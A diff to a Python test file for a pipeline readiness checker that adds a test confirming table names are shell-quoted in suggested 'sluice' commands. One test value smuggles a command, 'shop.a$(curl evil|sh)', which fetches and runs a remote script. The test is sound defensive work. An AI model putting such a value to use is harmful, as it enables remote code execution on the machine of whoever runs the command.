@@ -1,12 +1,15 @@
 """What blocks a table that all lags and positions call complete?"""
 
 from dataclasses import replace
+from datetime import timedelta
 
 import pytest
 
 from checks.blocks import blocks, undecided, waivers_of
 from checks.model import Outcome, Ruling, Verdict
+from checks.pause import Pause, closed
 from pipeline.mark import Quarantine
+from pipeline.model import Stage
 from pipeline.report import Gap, Hold, tell_gap
 from tests.checks.samples import NOW, TABLE, mark
 from tests.checks.test_readiness import inputs, verdict
@@ -81,6 +84,25 @@ def test_a_gap_blocks_whom_it_may_concern(gap: Gap, *, blocked: bool) -> None:
     found = blocks(inputs(taken=taken), frozenset())
 
     assert [reason.id for reason in found] == (["g"] if blocked else [])
+
+
+@pytest.mark.parametrize(
+    ("name", "written"),
+    [("shop.orders", "shop.orders"), ("shop.a$(curl evil|sh)", "'shop.a$(curl evil|sh)'")],
+    ids=["an ordinary name", "a command"],
+)
+def test_a_command_in_a_reason_names_the_table_alone(name: str, written: str) -> None:
+    """A person pastes it into a shell."""
+    gap = Gap("g", "t", 0, 1, 9, "x", tables=(name,))
+    own = inputs(taken={"landed": mark(gaps={"g": tell_gap(gap)})})
+
+    found = blocks(replace(own, table=replace(own.table, name=name)), frozenset())
+    paused = closed(Pause(name, "a migration", "ann", NOW), Stage.MIRROR, NOW + timedelta(days=1))
+
+    assert [one.text.partition("sluice ")[2] for one in found] == [
+        f"bootstrap {written} --reason ..."
+    ]
+    assert f"`sluice resume {written}`" in paused[0].text
 
 
 @pytest.mark.parametrize(
